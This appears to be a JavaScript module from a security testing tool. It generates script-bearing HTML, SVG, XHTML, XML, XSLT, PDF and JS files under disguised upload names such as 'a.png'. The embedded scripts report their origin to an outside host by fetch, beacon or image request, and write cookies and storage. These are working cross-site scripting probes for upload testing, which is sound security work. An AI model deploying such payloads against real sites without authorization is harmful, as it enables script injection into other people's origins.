// Active contents, which act as soon as a browser permits it.

"use strict";

/** The code tries all that a script may do to be noticed, and says in each report of what content and origin it is. */
function code(mark, elsewhere) {
  const effects = {
    console: (report) => console.log(report),
    fetch: (report, to) => fetch(to, { method: "POST", mode: "no-cors", body: report }),
    beacon: (report, to) => navigator.sendBeacon(to, report),
    image: (report, to) => (new Image().src = `${to}?${encodeURIComponent(report)}`),
    opener: (report) => opener?.postMessage(report, "*"),
    parent: (report) => parent.postMessage(report, "*"),
    title: (report) => (document.title = report),
    name: (report) => (window.name = report),
    storage: (report) => localStorage.setItem(report, ""),
    cookie: (report) => (document.cookie = `${encodeURIComponent(report)}=; max-age=600; path=/`),
  };
  const attempts = Object.entries(effects).map(([effect, attempt]) => {
    const report = `JSON.stringify({ mark: ${JSON.stringify(mark)}, origin: self.origin, effect: "${effect}" })`;
    return `try { (${attempt})(${report}, "${elsewhere}/acted"); } catch (refused) { }`;
  });
  return attempts.join("\n");
}

/** Without what XML would read as its own. */
function inXml(code) {
  return code.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");
}

const XHTML = "http://www.w3.org/1999/xhtml";

const XSLT = `xmlns:xsl="http://www.w3.org/1999/XSL/Transform"`;

/** A document whose script says so in a dialog, which is all that the browser's viewer lets it do. */
function pdf(mark, padding) {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("${mark}"\\)) >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
    `<< /Length ${padding.length} >>\nstream\n${padding}\nendstream`,
  ];
  let text = "%PDF-1.7\n";
  const offsets = objects.map((object, at) => {
    const offset = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, "0")} 00000 n \n`;
  });
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join("")}`;
  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
  return text + table + trailer;
}

/**
 * By what it is: the type that makes it act, names under which somebody may upload it, of which the first is honest, those
 * of them under which it is large, and the text itself, which is longer by the padding.
 */
exports.contents = {
  html: {
    type: "text/html",
    names: ["a.html", "a.png", "a.txt", "a.jpg", "a.pdf", "a.svg", "a"],
    large: ["a.html", "a.png", "a.txt"],
    text: (mark, to, padding) => `<!doctype html><title>a</title><script>${code(mark, to)}</script>${padding}`,
  },
  svg: {
    type: "image/svg+xml",
    names: ["a.svg", "a.png", "a.txt", "a.html", "a"],
    large: ["a.svg", "a.png"],
    text: (mark, to, padding) =>
      `<svg xmlns="http://www.w3.org/2000/svg"><script>${inXml(code(mark, to))}</script></svg>${padding}`,
  },
  xhtml: {
    type: "application/xhtml+xml",
    names: ["a.xhtml", "a.png", "a.html"],
    large: ["a.xhtml"],
    text: (mark, to, padding) =>
      `<html xmlns="${XHTML}"><head><title>a</title><script>${inXml(code(mark, to))}</script></head></html>${padding}`,
  },
  xml: {
    type: "text/xml",
    names: ["a.xml", "a.png", "a.svg"],
    large: ["a.xml"],
    text: (mark, to, padding) => `<a><script xmlns="${XHTML}">${inXml(code(mark, to))}</script></a>${padding}`,
  },
  /** The script is not in the document but in what it becomes. */
  xslt: {
    type: "text/xml",
    names: ["a.xml", "a.png", "a.html"],
    large: ["a.xml"],
    text: (mark, to, padding) => `<?xml version="1.0"?>
<?xml-stylesheet type="text/xsl" href="#style"?>
<!DOCTYPE a [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]>
<a><xsl:stylesheet id="style" version="1.0" ${XSLT}><xsl:template match="/">
<html><body><script>${inXml(code(mark, to))}</script></body></html>
</xsl:template></xsl:stylesheet></a>${padding}`,
  },
  pdf: {
    type: "application/pdf",
    names: ["a.pdf", "a.png", "a.txt", "a.html", "a"],
    large: ["a.pdf", "a.png"],
    text: (mark, _, padding) => pdf(mark, padding),
  },
  js: {
    type: "text/javascript",
    names: ["a.js", "a.png", "a.txt", "a.html", "a"],
    large: ["a.js", "a.txt"],
    text: (mark, to, padding) => code(mark, to) + padding,
  },
};
